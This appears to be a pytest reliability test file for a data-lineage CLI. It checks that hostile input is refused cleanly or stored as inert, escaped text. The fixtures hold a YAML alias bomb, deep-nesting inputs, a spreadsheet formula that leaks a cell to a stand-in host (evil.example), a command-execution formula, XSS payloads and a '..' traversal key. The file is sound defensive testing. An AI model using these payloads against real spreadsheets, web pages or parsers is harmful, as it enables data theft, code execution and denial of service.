"""Crafted hostile input: YAML alias bombs and deep nesting, oversized manifests, formula, HTML and
Markdown injection in names, and object keys with ``..`` and odd unicode.

What is asserted is what a user would see: a located error and exit 1 (never a crash), bounded
memory, text carried as inert data and escaped wherever it is rendered.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import duckdb
import pytest

from lineage_as_code.errors import ManifestError
from lineage_as_code.manifest import ManifestInput, build_lineage
from tests.reliability.figures import Figures

REPO = Path(__file__).resolve().parents[2]
BOMB = b"version: 1\n" + b"".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}' if i else 'lol'] * 9)}]\n".encode() for i in range(10))


def lac_process(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """``lac`` in its own interpreter, so that a crash of the parser shows as a failed test, not a dead run."""
    merged = {**os.environ, "PYTHONPATH": str(REPO), **(env or {})}
    return subprocess.run([sys.executable, "-m", "lineage_as_code", *args], check=False, cwd=cwd, env=merged,
                          capture_output=True, text=True, timeout=300)


# -- YAML bombs -------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, text", [
    ("flow.yaml", "[" * 200_000 + "]" * 200_000),
    ("block.yaml", "version: 1\nprocesses:\n" + "".join("  " * i + "- \n" for i in range(1, 3000))),
    ("mixed.yaml", "version: 1\nx: " + "{a: [" * 50_000 + "]}" * 50_000),
])
def test_deeply_nested_yaml_is_a_located_problem_not_a_crash(tmp_path: Path, name: str, text: str) -> None:
    # Whichever layer refuses the nesting first (the project's own check or the YAML parser's), the user
    # sees one located problem about nesting, exit 1, and no traceback, in bounded time.
    (tmp_path / name).write_text(text)
    start = time.perf_counter()
    result = lac_process("validate", name, cwd=tmp_path)
    assert time.perf_counter() - start < 120
    assert result.returncode == 1, (result.returncode, result.stderr[-500:])
    first = result.stderr.splitlines()[0]
    assert re.match(rf"^{name}:[1-9]\d*: ", first) and "nesting" in first.lower(), first
    assert "Traceback" not in result.stderr


def test_deeply_nested_lac_yaml_is_a_located_problem_not_a_crash(tmp_path: Path) -> None:
    (tmp_path / "lac.yaml").write_text("version: 1\ntargets: " + "[" * 100_000)
    result = lac_process("plan", cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert re.search(r"(^|\s)lac\.yaml:2: .*nesting", result.stderr, re.MULTILINE | re.IGNORECASE), result.stderr
    assert "Traceback" not in result.stderr


def test_a_yaml_alias_bomb_is_refused_before_it_expands(figures: Figures) -> None:
    start = time.perf_counter()
    with pytest.raises(ManifestError) as info:
        build_lineage([ManifestInput("bomb.yaml", BOMB)])
    seconds = time.perf_counter() - start
    figures.add("Crafted input", {"case": "alias bomb (9^10 nodes once expanded)",
                                  "outcome": str(info.value), "time": f"{seconds:.2f} s"})
    assert str(info.value) == "bomb.yaml:1: document expands to too many nodes (YAML alias bomb?)"


# -- size -------------------------------------------------------------------------------------------

def test_a_manifest_over_the_size_limit_is_refused_by_name(tmp_path: Path, lac: Any,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "small.yaml").write_text("version: 1\nprocesses: []\n")
    (tmp_path / "big.yaml").write_text("version: 1\n" + "# padding\n" * 300)
    monkeypatch.setenv("LAC_MAX_MANIFEST_BYTES", "2000")
    result = lac("validate", ".", cwd=tmp_path)
    assert result.code == 1
    assert result.err.strip() == ("error: big.yaml: 3,011 bytes is over the manifest size limit of 2,000 bytes "
                                  "(LAC_MAX_MANIFEST_BYTES); split it into several files or raise the limit")
    monkeypatch.setenv("LAC_MAX_MANIFEST_BYTES", "lots")
    result = lac("validate", "small.yaml", cwd=tmp_path)
    assert result.code == 1 and "LAC_MAX_MANIFEST_BYTES='lots': expected a number of bytes" in result.err


@pytest.mark.reliability_full
def test_a_500_mb_manifest_is_refused_in_bounded_memory(tmp_path: Path, figures: Figures) -> None:
    big = tmp_path / "huge.yaml"
    with open(big, "wb") as fh:  # sparse: the disk holds almost nothing, the size says 500 MB
        fh.write(b"version: 1\nprocesses:\n")
        fh.truncate(500 * 2**20)
    start = time.perf_counter()
    result = subprocess.run([sys.executable, "-c", MEASURED_VALIDATE, "huge.yaml"], check=False, cwd=tmp_path,
                            env={**os.environ, "PYTHONPATH": str(REPO)}, capture_output=True, text=True, timeout=300)
    seconds = time.perf_counter() - start
    error, peak = result.stderr.strip().rsplit("\n", 1)
    peak_mib = int(peak.removeprefix("peak-rss-kib ")) / 1024
    figures.add("Crafted input", {"case": "500 MB manifest (default limit 256 MiB)", "outcome": error,
                                  "time": f"{seconds:.2f} s", "peak RSS": f"{peak_mib:.0f} MiB"})
    assert result.returncode == 1
    assert "huge.yaml: 524,288,000 bytes is over the manifest size limit of 268,435,456 bytes" in error
    assert peak_mib < 300  # the file is never loaded: an interpreter with the CLI imported, nothing more


# lac validate in a fresh interpreter that reports its own peak resident memory on its last line
MEASURED_VALIDATE = """
import resource, sys
from lineage_as_code.cli import main
code = main(["validate", *sys.argv[1:]])
print("peak-rss-kib", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)
sys.exit(code)
"""


# -- injection in names and descriptions -------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
SCRIPT = "<script>alert('desc')</script> **bold** [link](javascript:alert(1)) | pipe"
IMG = "<img src=x onerror=alert(1)>"
QUOTED_FORMULA = '"' + FORMULA.replace('"', '""') + '"'
INJECTED_CSV = (
    "process_id,process_name,source,target,description,owner\n"
    f"inj_1,{QUOTED_FORMULA},snowflake:db.raw.`{IMG}`,snowflake:db.mart.<b>bold</b>,"
    f"\"{SCRIPT}\",@here\n"
    "inj_2,+cmd|' /C calc'!A0,snowflake:db.mart.<b>bold</b>,snowflake:db.mart.`x]]></svg><script>alert(2)</script>`,"
    "-2+3,=1+1\n"
)


def _outside_fences(markdown: str) -> str:
    return re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1$", "", markdown)


def test_formula_and_markup_in_a_csv_stay_inert_text_in_every_output(tmp_path: Path, lac: Any) -> None:
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "injected.csv").write_text(INJECTED_CSV)
    plan_json = lac("plan", "m", "--format", "json", cwd=tmp_path).out
    result = lac("apply", "m", "--auto-approve", cwd=tmp_path)
    assert result.code == 0, result.err
    with duckdb.connect(str(tmp_path / ".lac" / "lineage.duckdb"), read_only=True) as db:
        stored = dict(db.execute("SELECT id, name FROM processes").fetchall())
        description = db.execute("SELECT description FROM processes WHERE id = 'inj_1'").fetchone()
        keys = {k for (k,) in db.execute("SELECT key FROM assets").fetchall()}
    assert stored == {"inj_1": FORMULA, "inj_2": "+cmd|' /C calc'!A0"}  # carried verbatim, never evaluated
    assert description == (SCRIPT,) and f"snowflake:db.raw.`{IMG}`" in keys

    (tmp_path / "m" / "injected.csv").write_text(INJECTED_CSV.rsplit("inj_2", 1)[0])  # inj_2 and its asset go
    markdown = lac("plan", "m", "--format", "markdown", cwd=tmp_path).out
    graph = lac("graph", "m", "--format", "html", cwd=tmp_path).out
    mermaid = lac("graph", "m", "--format", "mermaid", cwd=tmp_path).out

    prose = _outside_fences(markdown)
    for raw in ("<script", "<img", "<b>", "<svg", "](javascript"):
        assert raw not in prose and raw not in _mermaid_blocks(markdown) and raw not in mermaid
    assert "x\\]\\]&gt;&lt;/svg&gt;&lt;script&gt;alert\\(2\\)&lt;/script&gt;" in prose  # the delete warning, escaped
    changes = [c for t in json.loads(plan_json)["targets"] for c in t["changes"]]
    assert any((c.get("after") or {}).get("name") == FORMULA for c in changes)  # a JSON string, nothing more

    assert graph.count("<script") == graph.count("</script>") == len(re.findall(r"<script[ >]", _template()))
    for raw in (IMG, "<b>bold</b>", "alert('desc')</script>", "]]></svg>"):
        assert raw not in graph
    data = re.search(r'(?s)<script type="application/json"[^>]*>(.*?)</script>', graph)
    assert data is not None and FORMULA in _strings(json.loads(data.group(1)))  # shown as text, unchanged


def _strings(value: Any) -> set[str]:
    if isinstance(value, str):
        return {value}
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return set().union(*(_strings(v) for v in items))


def _mermaid_blocks(markdown: str) -> str:
    return "\n".join(re.findall(r"(?ms)^```mermaid\n(.*?)^```$", markdown))


def _template() -> str:
    return (REPO / "lineage_as_code" / "graph_page" / "graph.html").read_text()


# -- object keys with .. and odd unicode ----------------------------------------------------------

ODD_KEYS = {
    "lineage/\u202egnp.yaml": "c",             # right-to-left override
    "lineage/e\u0301.yaml": "d",               # NFD e-acute ...
    "lineage/\u00e9.yaml": "e",                # ... and NFC: two different keys
    "lineage/zero\u200bwidth/\U0001f600.yml": "f",
    "lineage/../escape.yaml": "a",            # a '..' segment is never resolved: skipped like a hidden folder
    "lineage/..hidden.yaml": "b",             # a hidden file
    "lineage-old/not-listed.yaml": "g",        # shares the prefix's characters, not its folder
}


def _odd_manifest(tag: str) -> bytes:
    return (f"version: 1\ndefaults: {{platform: snowflake}}\nprocesses:\n  - id: p_{tag}\n"
            f"    inputs: [\"db.s.src_{tag}\\u202e\"]\n    outputs: [\"db.s.dst_{tag}\\u200b\\u0301\"]\n").encode()


def test_object_keys_with_dots_and_odd_unicode_are_read_as_literal_keys(s3_bucket: Any, lac: Any,
                                                                         tmp_path: Path) -> None:
    for key, tag in ODD_KEYS.items():
        s3_bucket.put(key, _odd_manifest(tag))
    broken = "lineage/\u202ebroken\u200b.yaml"
    s3_bucket.put(broken, b"version: 1\nprocesses:\n  - id: p_x\n    inputs: []\n    outputs: ['snowflake:db.s.t']\n")
    result = lac("validate", s3_bucket.uri("lineage/"), cwd=tmp_path)
    assert result.code == 1
    assert result.err.splitlines() == [f"{s3_bucket.uri(broken)}:4: processes[0].inputs: process has no inputs",
                                       "error: 1 problem(s) found"]
    s3_bucket.put(broken, _odd_manifest("x"))
    applied = lac("apply", s3_bucket.uri("lineage/"), "--auto-approve", cwd=tmp_path)
    assert applied.code == 0, applied.err
    with duckdb.connect(str(tmp_path / ".lac" / "lineage.duckdb"), read_only=True) as db:
        ids = sorted(i for (i,) in db.execute("SELECT id FROM processes").fetchall())
        keys = {k for (k,) in db.execute("SELECT key FROM assets").fetchall()}
    assert ids == ["p_c", "p_d", "p_e", "p_f", "p_x"]
    assert "snowflake:db.s.src_d\u202e" in keys and "snowflake:db.s.dst_e\u200b\u0301" in keys
    again = lac("plan", s3_bucket.uri("lineage/"), "--detailed-exitcode", cwd=tmp_path)
    assert again.code == 0, again.out + again.err
